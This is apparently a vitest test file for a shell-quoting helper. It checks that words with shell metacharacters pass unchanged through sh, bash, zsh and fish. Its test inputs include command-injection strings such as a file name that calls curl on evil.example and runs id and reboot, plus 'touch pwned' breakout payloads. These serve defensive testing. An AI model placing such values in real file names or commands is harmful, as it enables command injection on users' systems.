import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { isShownWhole, shellPath, shellWord } from '../../src/kit/shell.ts';
import { folderForTests } from '../factory/sandbox.ts';

const NASTY = [
  '',
  'plain.ovf',
  'x;curl evil.example`id`;$(reboot).ovf',
  "it's",
  "'",
  "''",
  '\\',
  'a\\',
  "\\'",
  "a\\\\b\\'c",
  '=ls',
  '~root',
  '-rf',
  '--',
  '{a,b}',
  'a*?[b]',
  '$HOME %1 $(id)',
  '!!',
  '#no comment',
  'two  blanks',
  'a&b|c>d<e',
  '"double"',
  '^up^down',
  'ü✓ \u{1f600} \u202e \u0085',
  'tab\tand \x07',
];
const SHELLS = ['sh', 'bash', 'zsh', 'fish'];

const folder = folderForTests();
beforeAll(() => {
  writeFileSync(
    join(folder, 'argv.cjs'),
    `require('node:fs').writeFileSync(${JSON.stringify(join(folder, 'out'))}, JSON.stringify(process.argv.slice(2)));`,
  );
});

/** What a program is given that a shell starts with these words. */
function argvBy(shell: string, words: readonly string[]): readonly string[] {
  const line = `${process.execPath} ${join(folder, 'argv.cjs')} -- ${words.join(' ')}`;
  const env = { PATH: process.env['PATH'], HOME: folder, LC_ALL: 'C.UTF-8' };
  const { status, stderr } = spawnSync(shell, ['-c', line], { cwd: folder, env, encoding: 'utf8' });
  expect(stderr).toBe('');
  expect(status).toBe(0);
  return JSON.parse(readFileSync(join(folder, 'out'), 'utf8')).slice(1);
}

describe.each(SHELLS)('[show.4] a word for %s', (shell) => {
  const absent = spawnSync(shell, ['-c', 'true']).status !== 0;
  if (absent) console.warn(`SKIPPED: ${shell} is not installed, so no word is read back from it`);

  test.skipIf(absent)('is what it was', () => {
    expect(argvBy(shell, NASTY.map(shellWord))).toEqual(NASTY);
  });

  test.skipIf(absent)('is what it was, whatever it is', () => {
    const texts = fc.sample(
      fc.string({ unit: fc.constantFrom(...'\'"\\$`!*?~=-#;&|<>(){}[]% \tax\u00e9\u202e'), maxLength: 12 }),
      { numRuns: 300, seed: 7 },
    );
    expect(argvBy(shell, texts.map(shellWord))).toEqual(texts);
  });
});

test('[show.4] a path is never an option', () => {
  expect(shellPath('-rf')).toBe('./-rf');
  expect(shellPath("--a'b")).toBe(`'./--a'"'"'b'`);
  expect(shellPath('a b')).toBe("'a b'");
});

test('[show.4] what is not shown whole is known', () => {
  for (const text of ['a b', "it's", 'ü.ovf', 'LOOKUP.img']) expect(isShownWhole(text)).toBe(true);
  for (const text of [
    'a  b',
    ' a',
    'a ',
    'a\u202eb',
    'a\u0085',
    '✓ a',
    'a\\b',
    'a OK b',
    'BOOK.img',
    'x'.repeat(81),
    "'".repeat(30),
  ]) {
    expect(isShownWhole(text)).toBe(false);
  }
});

test('[show.4] a word that is fit for advice stays quoted wherever it is broken', () => {
  const texts = ["aaa';touch pwned;'.ovf", "'';touch pwned;''", "a'$(touch pwned)'b", "x'`touch pwned`"];
  const lines = texts.flatMap((text) => {
    expect(isShownWhole(text)).toBe(true);
    const word = shellWord(text);
    return Array.from({ length: word.length - 1 }, (_, i) =>
      ['', '               '].map(
        (hang) => `: FOLDER/${word.slice(0, i + 1)}\n${hang}${word.slice(i + 1)} -o x`,
      ),
    ).flat();
  });
  const script = join(folder, 'broken');
  writeFileSync(script, ["touch() { printf 'ran\\n'; }", ...lines, 'echo end', ''].join('\n'));
  const { stdout } = spawnSync('/bin/sh', [script], { cwd: folder, env: { PATH: '' }, encoding: 'utf8' });
  expect(stdout).toBe('end\n');
});
